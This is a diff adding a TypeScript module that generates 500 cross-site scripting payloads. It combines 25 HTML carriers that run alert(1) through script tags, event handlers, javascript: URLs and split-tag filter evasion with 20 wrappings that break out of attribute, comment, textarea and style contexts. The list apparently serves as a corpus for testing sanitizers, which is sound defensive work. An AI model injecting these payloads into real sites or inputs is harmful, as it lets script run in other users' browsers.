@@ -1,0 +1,55 @@
+const RUNS = 'alert(1)';
+
+const CARRIERS: readonly string[] = [
+  `<script>${RUNS}</script>`,
+  `<script src="data:text/javascript,${RUNS}"></script>`,
+  `<img src=x onerror=${RUNS}>`,
+  `<img/src/onerror=${RUNS}>`,
+  `<svg onload=${RUNS}>`,
+  `<svg><script>${RUNS}</script></svg>`,
+  `<svg><animate onbegin=${RUNS} attributeName=x dur=1s>`,
+  `<math><mtext><style><img src=x onerror=${RUNS}></style></mtext></math>`,
+  `<iframe srcdoc="<script>${RUNS}</script>"></iframe>`,
+  `<iframe src="javascript:${RUNS}"></iframe>`,
+  `<body onload=${RUNS}>`,
+  `<details open ontoggle=${RUNS}>x</details>`,
+  `<video><source onerror=${RUNS}></video>`,
+  `<audio src=x onerror=${RUNS}></audio>`,
+  `<input autofocus onfocus=${RUNS}>`,
+  `<object data="javascript:${RUNS}"></object>`,
+  `<embed src="javascript:${RUNS}">`,
+  `<a href="javascript:${RUNS}" autofocus onfocus=${RUNS} tabindex=1>x</a>`,
+  `<b onfocus=${RUNS} autofocus tabindex=1>x</b>`,
+  `<br onfocus=${RUNS} autofocus tabindex=1>`,
+  `<em style="animation-name:x" onanimationstart=${RUNS}>x</em><style>@keyframes x{}</style>`,
+  `<scr<script>ipt>${RUNS}</scr</script>ipt>`,
+  `<<b>script>${RUNS}<</b>/script>`,
+  `<link rel=stylesheet href=x onerror=${RUNS}>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUNS}">`,
+];
+
+const WRAPPINGS: readonly ((payload: string) => string)[] = [
+  (payload) => payload,
+  (payload) => payload.replaceAll(/<\/?[a-z]+/g, (tag) => tag.toUpperCase()),
+  (payload) => `">${payload}`,
+  (payload) => `'>${payload}`,
+  (payload) => `</title>${payload}`,
+  (payload) => `</textarea>${payload}`,
+  (payload) => `</style>${payload}`,
+  (payload) => `</script>${payload}`,
+  (payload) => `-->${payload}<!--`,
+  (payload) => `<!--><b>${payload}`,
+  (payload) => `]]>${payload}`,
+  (payload) => `<b>${payload}</b>`,
+  (payload) => `<a href="https://www.zakat.sg/">${payload}</a>`,
+  (payload) => `<a href="https://www.zakat.sg/"${payload}>x</a>`,
+  (payload) => `<b${payload}`,
+  (payload) => `{{${payload}}}`,
+  (payload) => payload.replaceAll(/<([a-z]+)/g, '<$1\n'),
+  (payload) => payload.replaceAll(/<([a-z]+)/g, '<$1/'),
+  (payload) => payload.slice(0, -1),
+  (payload) => `<${payload}`,
+];
+
+/** Five hundred texts that would run, wherever one of them were taken for markup. */
+export const markupPayloads: readonly string[] = CARRIERS.flatMap((carrier) => WRAPPINGS.map((wrap) => wrap(carrier)));
